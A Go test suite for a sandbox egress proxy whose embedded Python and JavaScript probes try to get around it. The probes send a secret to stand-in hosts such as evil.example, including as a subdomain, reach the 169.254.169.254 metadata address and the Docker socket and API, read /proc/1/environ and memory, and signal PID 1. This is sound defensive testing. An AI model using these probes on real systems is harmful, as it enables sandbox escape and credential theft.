package sandboxtest

import (
	"context"
	"crypto/x509"
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"slices"
	"strconv"
	"strings"
	"sync"
	"testing"

	"sallyport/egress"
	"sallyport/egress/egresstest"
	"sallyport/sandbox"
)

// A program that may reach hosts is a program that attacks the way to them. Behind
// it are a real proxy, which lets requests to one host through, and real servers on
// the host's loopback.

// reached is the one host that may be asked, under /v1/.
const reached = "example.com"

// brokered is a secret of the rule for it, which no program has.
const brokered = "the-brokered-value-0123456789"

// outside is what is behind the way out of all rows.
type outside struct {
	proxy         *egress.Proxy
	outlet        *egress.Outlet
	plain, secure string // ports
	attacks       []egresstest.Attack

	mu       sync.Mutex // guards what follows
	arrived  int        // requests, at the servers
	brokered int        // of those, with the secret where it belongs
	astray   []string   // those that none of the rules lets through
	allowed  int        // on record
	refused  map[string]int
	places   []string      // that were refused
	second   chan struct{} // closed when the second request for events is there
}

func newOutside(t *testing.T) *outside {
	t.Helper()
	o := &outside{refused: map[string]int{}, second: make(chan struct{})}
	secure, plain := httptest.NewTLSServer(http.HandlerFunc(o.serve)), httptest.NewServer(http.HandlerFunc(o.serve))
	t.Cleanup(secure.Close)
	t.Cleanup(plain.Close)
	roots := x509.NewCertPool()
	roots.AddCert(secure.Certificate())
	rule := egress.Rule{Name: "api", Host: reached, Methods: []string{"GET", "POST"}, Paths: []string{"/v1/*"}, Addresses: []netip.Addr{netip.MustParseAddr("127.0.0.1")}}
	for to, s := range map[*string]*httptest.Server{&o.plain: plain, &o.secure: secure} {
		_, *to, _ = net.SplitHostPort(s.Listener.Addr().String())
		port, err := strconv.Atoi(*to)
		if err != nil {
			t.Fatal(err)
		}
		rule.Ports = append(rule.Ports, port)
	}
	var err error
	if o.attacks, err = egresstest.Attacks(reached); err != nil {
		t.Fatal(err)
	}
	limits := egress.Limits{Requests: 1 << 20, Connections: 1 << 10, Sent: 1 << 30, Received: 1 << 30}
	if o.proxy, err = egress.New(egress.Options{Rules: []egress.Rule{rule}, Secrets: []egress.Secret{{Name: "KEY", Value: brokered, Rule: "api"}}, Roots: roots, Limits: limits}); err != nil {
		t.Fatal(err)
	}
	if o.outlet, err = o.proxy.Open(egress.Run{Record: o.record}); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = o.outlet.Close() })
	return o
}

func (o *outside) serve(w http.ResponseWriter, r *http.Request) {
	o.mu.Lock()
	o.arrived++
	if !strings.HasPrefix(r.Host, reached+":") || !strings.HasPrefix(r.URL.Path, "/v1/") {
		o.astray = append(o.astray, r.Host+r.URL.Path)
	}
	right := r.Header.Get("Authorization") == "Bearer "+brokered && r.TLS != nil
	if right {
		o.brokered++
		r.Header.Del("Authorization")
	}
	if strings.Contains(fmt.Sprint(r.URL, r.Header), brokered) {
		o.astray = append(o.astray, "the value of a secret")
	}
	o.mu.Unlock()
	switch r.URL.Path {
	case "/v1/echo": // what it was sent, in several ways
		text := "Bearer " + brokered
		if !right {
			text = "nothing"
		}
		w.Header().Set("X-Echo", text)
		for _, b := range []byte(text) {
			_, _ = w.Write([]byte{b})
			w.(http.Flusher).Flush()
		}
		fmt.Fprintln(w, "", text, base64.StdEncoding.EncodeToString([]byte(text)), hex.EncodeToString([]byte(text)))
	case "/v1/big":
		_, _ = w.Write(make([]byte, 4<<20))
	case "/v1/endless":
		for piece := make([]byte, 64<<10); ; {
			if _, err := w.Write(piece); err != nil {
				return
			}
		}
	case "/v1/upload":
		n, _ := io.Copy(io.Discard, r.Body)
		fmt.Fprint(w, n)
	case "/v1/events": // the second event comes when the program has asked for it
		fmt.Fprint(w, "one\n")
		w.(http.Flusher).Flush()
		select {
		case <-o.second:
			fmt.Fprint(w, "two\n")
		case <-r.Context().Done():
		}
	case "/v1/second":
		o.mu.Lock()
		defer o.mu.Unlock()
		select {
		case <-o.second:
		default:
			close(o.second)
		}
	default:
		fmt.Fprintln(w, "hello", r.URL.Path)
	}
}

func (o *outside) record(_ context.Context, e egress.Event) error {
	o.mu.Lock()
	defer o.mu.Unlock()
	switch {
	case e.Ended:
	case e.Allowed:
		o.allowed++
	default:
		o.refused[e.Reason]++
		o.places = append(o.places, net.JoinHostPort(e.Request.Host, strconv.Itoa(e.Request.Port)))
	}
	return nil
}

// letOut lets a run out.
func (o *outside) letOut(s *sandbox.Spec) {
	s.Grant = append(slices.Clone(s.Grant), sandbox.CapabilityNetwork)
	s.Egress = &sandbox.Egress{CA: o.proxy.CA(), Ports: o.proxy.Ports(), Accept: func(c net.Conn) { o.outlet.Accept(c) }}
}

// Way is who takes connections in a sandbox.
type Way int

const (
	WayInKernel        Way = iota // gVisor's kernel
	WaySupervised                 // the supervisor
	WaySupervisedBlind            // the supervisor, which sees no connect
)

// ways is how many backends have each way out. What is behind it is the same for all of
// them. Of gVisor they are root and an ordinary user; of the supervisor that sees connects
// the engines docker and podman, podman of an ordinary user, and after them runc, crun
// and an ordinary user of package oci; of the other, docker with gVisor.
var ways = map[Way]int{WayInKernel: 2, WaySupervised: 6, WaySupervisedBlind: 1}

// Share is the part of one of these backends.
func (w Way) Share(part int) Share { return Share{Part: part, Of: ways[w]} }

// Egress runs the rows about programs that may reach hosts.
func Egress(t *testing.T, b sandbox.Backend, o Options, way Way) {
	out, w := newOutside(t), NewWorld(t)
	if b.Describe().Controls[sandbox.ControlEgress] == "" {
		t.Fatalf("the backend does not publish control %q", sandbox.ControlEgress)
	}
	rows := o.Share.of(out.rows(t, way))
	rows = slices.DeleteFunc(rows, func(r Row) bool { return len(o.Only) > 0 && !slices.Contains(o.Only, r.Name) })
	companies := companies(rows)
	for _, row := range rows {
		t.Run(row.Name, func(t *testing.T) {
			for _, f := range companies[row.Company].attempt(row, b, w, o) {
				t.Error(f)
			}
		})
	}
	if len(o.Only) == 0 {
		out.judge(t, rows, way)
	}
}

// WarmEgress: a sandbox that waits for a program has its way out already, and one
// that reaches nothing is not given it.
func WarmEgress(t *testing.T, b interface {
	sandbox.Backend
	Warm(context.Context, sandbox.Spec) error
}) {
	out := newOutside(t)
	s := Spec("python", out.filled(pythonReaches+"works()\nprint(socket.gethostbyname('any.example'))"))
	out.letOut(&s)
	if err := b.Warm(t.Context(), s); err != nil {
		t.Fatal(err)
	}
	res, err := b.Run(t.Context(), s)
	if err != nil || !res.Warm || string(res.Stdout) != "127.53.0.1\n" || len(res.Violations) > 0 {
		t.Errorf("warm %t, %q %s, %v, %v", res.Warm, res.Stdout, res.Stderr, res.Violations, err)
	}
	s = Spec("python", "import socket\ntry:\n    socket.socket()\nexcept OSError as e:\n    print(e.errno)")
	s.Observe = true // what is below the hooks is looked at
	res, err = b.Run(t.Context(), s)
	if err != nil || res.Warm || string(res.Stdout) != "1\n" || res.Enforced[sandbox.ControlEgress] != "" || res.Enforced[sandbox.ControlNetwork] == "" {
		t.Errorf("without a way out: warm %t, %q %s, %v, %v", res.Warm, res.Stdout, res.Stderr, res.Enforced, err)
	}
}

// unnamed are places that rows connect to, and that are to be on record.
var unnamed = []string{"203.0.113.5:80", "169.254.169.254:80", "10.0.0.1:2375", "203.0.113.5:443", "203.0.113.7:22", "203.0.113.6:80", reached + ":9"}

// judge looks at what arrived and what is on record, of these rows together.
func (o *outside) judge(t *testing.T, rows []Row, way Way) {
	t.Helper()
	if err := o.outlet.Close(); err != nil { // what is under way is on record then
		t.Error(err)
	}
	o.mu.Lock()
	defer o.mu.Unlock()
	t.Log(o.refused)
	ran := func(names ...string) bool {
		return slices.ContainsFunc(rows, func(r Row) bool { return slices.Contains(names, r.Name) })
	}
	if ran(aSecret) && o.brokered == 0 {
		t.Error("the secret is not put in")
	}
	if len(o.astray) > 0 {
		t.Errorf("arrived where it may not: %q", o.astray)
	}
	if o.arrived > o.allowed || o.arrived == 0 {
		t.Errorf("%d requests arrived, %d are on record", o.arrived, o.allowed)
	}
	for _, to := range unnamed {
		if !slices.Contains(o.places, to) && way != WaySupervisedBlind {
			t.Errorf("%s is not on record: %q", to, o.places)
		}
	}
	want := map[string]int{"host is not allowed": 1, "path is not allowed": 1}
	for _, a := range o.attacks {
		if a.Reason != "" && ran(proxyAttacks, proxyAttacks+", javascript") {
			want[a.Reason]++
		}
	}
	for reason, n := range want {
		if o.refused[reason] < n {
			t.Errorf("%q is on record %d times, want %d", reason, o.refused[reason], n)
		}
	}
}

// Companies of those that may reach hosts.
const (
	reaching   = "a Python that reaches hosts"
	reachingJS = "a JavaScript that reaches hosts"
)

// Rows of which more is on record than others see.
const (
	aSecret      = "a secret"
	proxyAttacks = "attacks on the proxy"
)

// pythonReaches is in front of every row in Python.
const pythonReaches = `
import os, socket, ssl, sys, urllib.request, urllib.error
HOST, PLAIN, SECURE = "example.com", PORT_PLAIN, PORT_SECURE
def get(url, data=None):
    try:
        with urllib.request.urlopen(urllib.request.Request(url, data=data), timeout=300) as r:
            return r.status, r.read().decode()
    except urllib.error.HTTPError as e:
        return e.code, e.read().decode()
def url(path, scheme="http"):
    return f"{scheme}://{HOST}:{SECURE if scheme == 'https' else PLAIN}{path}"
def works():
    got = get(url("/v1/x"))
    if got != (200, "hello /v1/x\n"):
        print("a request brought", got)
def refused(*how):
    try:
        socket.socket(*how).close()
    except OSError as e:
        return isinstance(e, PermissionError)
    return False
`

// nodeReaches is the same for JavaScript.
const nodeReaches = `
const HOST = "example.com", PLAIN = PORT_PLAIN, SECURE = PORT_SECURE;
const net = require("net"), tls = require("tls"), http = require("http"), dns = require("dns/promises"), dgram = require("dgram");
const get = (url) => new Promise((done, failed) => http.get(url, (r) => {
  let text = "";
  r.on("data", (more) => (text += more)).on("end", () => done([r.statusCode, text]));
}).on("error", failed));
// What comes of a socket: "error" or what it was told.
const raw = (socket, say) => new Promise((done) => {
  let got = "";
  socket.on("data", (more) => { got += more.toString("latin1"); if (got.includes("\0\0\b\x07")) socket.destroy(); });
  socket.on("error", () => {}).on("close", () => done(got));
  socket.on(socket.encrypted ? "secureConnect" : "connect", () => socket.write(say));
});
`

func (o *outside) rows(t *testing.T, way Way) []Row {
	python := func(name, code string) Row {
		return Row{Name: name, Company: reaching, Control: sandbox.ControlEgress, Language: "python", Edit: o.letOut,
			Code: o.filled(pythonReaches + code + "\nprint(\"held\")\n")}
	}
	node := func(name, code string) Row {
		return Row{Name: name + ", javascript", Company: reachingJS, Control: sandbox.ControlEgress, Language: "javascript", Edit: o.letOut,
			Code: o.filled(nodeReaches + "(async () => {" + code + "\nconsole.log(\"held\");\n})()")}
	}
	rows := []Row{
		python("allowed", `
works()
got = get(url("/v1/x", "https"))
if got != (200, "hello /v1/x\n"):
    print("over TLS", got)`),
		python("refused", `
for u in ("https://evil.example/", "http://evil.example/", url("/admin"), url("/v1/x").replace(HOST, "sub." + HOST)):
    code, text = get(u)
    if code != 403 or '"denied":true' not in text or "GET,POST " + HOST not in text:
        print(u, code, text)`),
		python("sizes", `
if (code := get(url("/v1/big"))[1]) != "\0" * (4 << 20):
    print("of an answer came", len(code))
if (got := get(url("/v1/upload", "https"), b"x" * (3 << 20))) != (200, str(3 << 20)):
    print("of an upload came", got)`).within(),
		python("event by event", `
with urllib.request.urlopen(url("/v1/events"), timeout=300) as r:
    if r.readline() != b"one\n":
        print("no first event")
    get(url("/v1/second"))
    if r.readline() != b"two\n":
        print("no second event")`).within(),
		python("answers that nobody reads", `
kept = []
for n in range(60):
    c = socket.create_connection((HOST, PLAIN), 300)
    c.sendall(f"GET /v1/endless HTTP/1.1\r\nHost: {HOST}\r\n\r\n".encode())
    c.recv(1)
    kept.append(c)
for n in range(50):  # they fill up meanwhile
    works()
for c in kept:
    c.close()
works()`).within(),
		python("connections without a word", `
for n in range(300):
    socket.create_connection((HOST, PLAIN), 300).close()
works()`).within(),
		python("whom it trusts", `
text = open("/etc/ssl/certs/ca-certificates.crt").read()
if text.count("BEGIN") != 1 or text != open(os.environ["SSL_CERT_FILE"]).read():
    print("trusts", text)
with socket.create_connection((HOST, SECURE), 300) as c:
    lone = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    try:
        lone.wrap_socket(c, server_hostname=HOST)
        print("somebody else vouches for the proxy")
    except ssl.SSLError:
        pass`),
		python("names", `
import struct
def ask(kind, name=b"\x07example\x03com\x00"):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(300)
        s.connect(("127.0.0.1", 53))
        s.send(b"\xab\xcd\x01\x00\x00\x01" + bytes(6) + name + struct.pack(">HH", kind, 1))
        got = s.recv(600)
        return struct.unpack(">H", got[6:8])[0], got[-4:]
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
    for nonsense in (b"", b"x", b"\xff" * 12, b"\0" * 1400, b"\xab\xcd\x01\x00\xff\xff" + bytes(6) + b"\xc0\x0c" * 100, os.urandom(600)):
        s.sendto(nonsense, ("127.0.0.1", 53))
if ask(1) != (1, bytes([127, 53, 0, 1])):
    print("A", ask(1))
for kind in (28, 5, 15, 16, 65, 255):  # AAAA, CNAME, MX, TXT, HTTPS, ANY
    if ask(kind)[0] != 0:
        print(kind, ask(kind))
if socket.gethostbyname("anything.at.all.example") != "127.53.0.1":
    print("another address")`),
		python("no way around by addresses", `
with open("/proc/net/dev") as interfaces:
    if names := [line.split(":")[0].strip() for line in interfaces if ":" in line and "lo:" not in line]:
        print("interfaces", names)
for host in ("169.254.169.254", "10.0.0.1", "172.17.0.1", "8.8.8.8", "127.0.0.1", "127.0.0.2", "0.0.0.0", "127.53.0.1"):
    for port in (22, 53, 2375, PLAIN, SECURE, int(sys.argv[2])):
        for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
            try:
                with socket.socket(socket.AF_INET, kind) as s:
                    s.settimeout(0.2 if kind == socket.SOCK_DGRAM else 60)
                    s.connect((host, port))
                    s.send(b"GET /v1/around HTTP/1.0\r\nHost: " + host.encode() + b"\r\n\r\n")
                    got = s.recv(1000)
                    if b"hello" in got or sys.argv[3].encode() in got:
                        print("reached", host, port, got)
            except OSError:
                pass`),
		python("no way around by other sockets", `
SEQ, RAW, CLOEXEC = socket.SOCK_SEQPACKET, socket.SOCK_RAW, socket.SOCK_CLOEXEC
for family in (socket.AF_UNIX, socket.AF_INET6, socket.AF_NETLINK, socket.AF_PACKET, 40, 38, 16):
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, RAW, SEQ):
        if not refused(family, kind):
            print("family", family, kind)
for kind in (RAW, RAW | CLOEXEC, RAW | socket.SOCK_NONBLOCK):
    for protocol in (0, 1, 6, 17, 255):
        if not refused(socket.AF_INET, kind, protocol):
            print("raw", kind, protocol)
for name in ("\0" + sys.argv[4], "/run/docker.sock", "/var/run/nscd/socket"):
    try:
        a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_STREAM)
        a.connect(name)
        print("connected to", name)
    except OSError:
        pass`),
		python(aSecret, `
KEY, VALUE = "SENTINEL", "BACKWARDS"[::-1]
def send(to, data=None, **headers):
    try:
        with urllib.request.urlopen(urllib.request.Request(to, data=data, headers=headers), timeout=300) as r:
            return r.status, r.read().decode() + str(r.headers)
    except urllib.error.HTTPError as e:
        return e.code, e.read().decode() + str(e.headers)
import base64
code, text = send(url("/v1/echo", "https"), Authorization="Bearer " + KEY)
if code != 200 or "Bearer " + KEY not in text:
    print("where it belongs", code, text)
for form in (VALUE, base64.b64encode(b"Bearer " + VALUE.encode()).decode()[10:30], VALUE.encode().hex()):
    if form in text:
        print("it came back as", form)
for to, headers in (
    (url("/v1/echo"), {"Authorization": "Bearer " + KEY}),
    (url("/v1/echo", "https"), {"Cookie": KEY}),
    (url("/v1/echo", "https"), {"Authorization": "Bearer " + KEY, "Range": "bytes=0-3"}),
    (url("/v1/echo", "https") + "?k=" + KEY, {}),
    (url("/v1/", "https") + KEY, {}),
    (url("/admin", "https"), {"Authorization": "Bearer " + KEY}),
    ("https://evil.example/", {"Authorization": "Bearer " + KEY}),
    ("http://" + KEY + ".evil.example/", {}),
):
    if (got := send(to, **headers))[0] != 403:
        print(to, headers, got)
if (got := send(url("/v1/upload", "https"), KEY.encode()))[0] != 200:
    print("in a body", got)`).within(),
		python("its own servers", `
import threading
with socket.create_server(("127.0.0.1", 8080)) as server:
    def serve():
        c = server.accept()[0]
        c.sendall(b"mine")
        c.close()
    thread = threading.Thread(target=serve)
    thread.start()
    with socket.create_connection(("127.0.0.1", 8080), 300) as c:
        if c.recv(10) != b"mine":
            print("no server of its own")
    thread.join()`),
		python(proxyAttacks, o.attacksIn(t, pythonAttacks, pythonWants)).within(),
		node("allowed and refused", `
const answers = [await get(`+"`http://${HOST}:${PLAIN}/v1/x`"+`), await get("http://evil.example/")];
if (answers[0][0] !== 200 || answers[0][1] !== "hello /v1/x\n" || answers[1][0] !== 403) console.log(answers);
const r = await fetch(`+"`https://${HOST}:${SECURE}/v1/x`"+`);
if (r.status !== 200) console.log(r.status);
const evil = await fetch("https://evil.example/");
if (evil.status !== 403) console.log(evil.status);
const names = await dns.lookup("any.example", { all: true });
if (JSON.stringify(names) !== '[{"address":"127.53.0.1","family":4}]') console.log(names);
for (const to of [{ host: "::1", port: 443 }, { path: "/run/docker.sock" }, { path: "\0" + process.argv[5] }, { host: "127.0.0.1", port: +process.argv[3] }, { host: "10.0.0.1", port: 22 }]) {
  const got = await raw(net.connect(to), "x\r\n\r\n");
  if (got && !got.startsWith("HTTP/1.1 400")) console.log(to, got);
}
await new Promise((done) => {
  const s = dgram.createSocket("udp6");
  s.on("error", done).bind(0, () => { console.log("udp6"); s.close(done); });
});`),
		node(proxyAttacks, o.attacksIn(t, nodeAttacks, nodeWants)).within(),
	}
	if way != WaySupervisedBlind {
		rows = append(rows, python("addresses, and ports of no rule", `
import threading, time
for host, port, code in ((HOST, 9, 403), ("203.0.113.5", 80, 403), ("169.254.169.254", 80, 403), ("10.0.0.1", 2375, 403)):
    for slow in (False, True):  # also a connect that does not wait
        c = socket.socket()
        c.settimeout(300 if slow else None)
        c.connect((host, port))
        if c.gettimeout() != (300 if slow else None) or os.get_inheritable(c.fileno()):
            print("another descriptor than before")
        c.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        c.sendall(f"GET /latest HTTP/1.1\r\nHost: {host}:{port}\r\nConnection: close\r\n\r\n".encode())
        got = c.makefile("rb").read()
        if f" {code} ".encode() not in got.split(b"\r\n")[0] or b'"denied":true' not in got:
            print(host, port, got)
with socket.create_connection(("203.0.113.5", 443), 300) as c:
    try:
        ssl.create_default_context().wrap_socket(c, server_hostname="203.0.113.5")
        print("TLS with an address")
    except ssl.SSLError:
        pass
with socket.create_connection(("203.0.113.7", 22), 300) as c:
    c.sendall(b"SSH-2.0-x\r\n\r\n")
    while c.recv(1000):
        pass
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as c:
    try:
        c.connect(("203.0.113.5", 53))
        c.send(b"x")
    except OSError:
        pass
    if c.type != socket.SOCK_DGRAM or c.getsockopt(socket.SOL_SOCKET, socket.SO_TYPE) != socket.SOCK_DGRAM:
        print("a socket of another kind")
works()`), node("addresses", `
for (const host of ["203.0.113.6", "169.254.169.254"]) {
  const got = await get("http://" + host + "/");
  if (got[0] !== 403) console.log(host, got);
}`))
	}
	if way == WayInKernel {
		return rows
	}
	return append(rows,
		python("protocols", `
for kind, protocol in ((socket.SOCK_STREAM, 132), (socket.SOCK_STREAM, 262), (socket.SOCK_DGRAM, 1), (socket.SOCK_DGRAM, 136), (socket.SOCK_STREAM, 33), (6, 33), (6, 0), (socket.SOCK_SEQPACKET, 132), (socket.SOCK_SEQPACKET, 0)):
    if not refused(socket.AF_INET, kind, protocol):
        print("protocol", kind, protocol)
try:
    a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
    print("datagrams that can be sent to any path")
except PermissionError:
    pass`),
		python("the supervisor's place", `
kept = []
for kind, port in ((socket.SOCK_STREAM, 80), (socket.SOCK_STREAM, 443), (socket.SOCK_STREAM, PLAIN), (socket.SOCK_DGRAM, 53)):
    own = "127.0.0.1" if port == 53 else "127.53.0.1"
    for host in (own, "0.0.0.0"):
        for option in (None, socket.SO_REUSEADDR, socket.SO_REUSEPORT):
            s = socket.socket(socket.AF_INET, kind)
            try:
                if option:
                    s.setsockopt(socket.SOL_SOCKET, option, 1)
                s.bind((host, port))
                if kind == socket.SOCK_STREAM:
                    s.listen()
                kept.append(s)  # gVisor lets it, and asks whoever is nearer
                if host == own:
                    print("taken:", host, port, option)
            except OSError:
                s.close()
works()
for s in kept:
    s.close()`),
		python("the supervisor's descriptors", `
import glob, signal, struct
for kind in b"TXOREKS":
    for body in (b"x", b"\x02\x00\x06\x00\x03\x00\x00\x00\x7f5\x00\x01\x00\x50", b"{}"):
        frame = bytes([kind]) + struct.pack(">I", len(body)) + body
        for fd in [*range(3, 100), *range(103, 300)]:  # but the interpreter's own, which may say what it likes
            try:
                os.write(fd, frame)
                print("wrote to", fd)
            except OSError:
                pass
        for path in glob.glob("/proc/[0-9]*/fd/*"):
            if path.split("/")[2] == str(os.getpid()):
                continue
            try:
                os.write(os.open(path, os.O_WRONLY), frame)
                print("wrote to", path)
            except OSError:
                pass
for path in ("/proc/1/mem", "/proc/1/environ", "/proc/1/maps"):
    try:
        open(path, "rb").read(1)
        print("read", path)
    except OSError:
        pass
for signum in range(1, 65):
    try:
        os.kill(1, signum)
    except OSError:
        pass
works()`))
}

// filled is code with the ports of the servers.
func (o *outside) filled(code string) string {
	backwards := []byte(brokered)
	slices.Reverse(backwards)
	return strings.NewReplacer("PORT_PLAIN", o.plain, "PORT_SECURE", o.secure, "SENTINEL", o.proxy.Sentinels()["KEY"], "BACKWARDS", string(backwards)).Replace(code)
}

// attacksIn is a program that makes the attacks.
func (o *outside) attacksIn(t *testing.T, code, want string) string {
	t.Helper()
	var given []map[string]any
	for _, a := range o.attacks {
		given = append(given, map[string]any{"name": a.Name, "tls": a.TLS, "sni": a.SNI, "alpn": a.ALPN, "lone": a.Lone, "hex": hex.EncodeToString(a.Send), "want": a.Want})
	}
	data, err := json.Marshal(given)
	if err == nil {
		data, err = json.Marshal(string(data)) // a string of both languages
	}
	if err != nil {
		t.Fatal(err)
	}
	return strings.ReplaceAll(code, "ATTACKS", string(data)) + want
}

const pythonAttacks = `
import json, re
for a in json.loads(ATTACKS):
    got = b""
    try:
        c = socket.create_connection((HOST, SECURE if a["tls"] else PLAIN), 300)
        if a["tls"]:
            t = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT) if a["lone"] else ssl.create_default_context()
            t.check_hostname = t.check_hostname and a["sni"] != "-"
            if a["alpn"]:
                t.set_alpn_protocols([a["alpn"]])
            c = t.wrap_socket(c, server_hostname=None if a["sni"] == "-" else a["sni"] or HOST)
        c.sendall(bytes.fromhex(a["hex"]))
        while b"\0\0\x08\x07" not in got and (more := c.recv(65536)):  # HTTP/2 says with this that it ends
            got += more
    except OSError:
        pass
    c.close()
`

const pythonWants = `
    codes = ",".join(re.findall(r"HTTP/1\.[01] (\d{3})", got.decode("latin-1"))) or "closed"
    if codes not in a["want"].split("|"):
        print(a["name"], codes, a["want"])
`

const nodeAttacks = `
for (const a of JSON.parse(ATTACKS)) {
  const to = { host: HOST, port: a.tls ? SECURE : PLAIN, servername: a.sni === "-" ? "" : a.sni || HOST };
  if (a.alpn) to.ALPNProtocols = [a.alpn];
  if (a.lone) to.ca = [];
  const got = await raw(a.tls ? tls.connect(to) : net.connect(to), Buffer.from(a.hex, "hex"));
`

const nodeWants = `
  const codes = [...got.matchAll(/HTTP\/1\.[01] (\d{3})/g)].map((m) => m[1]).join(",") || "closed";
  if (!a.want.split("|").includes(codes)) console.log(a.name, codes, a.want);
}
`
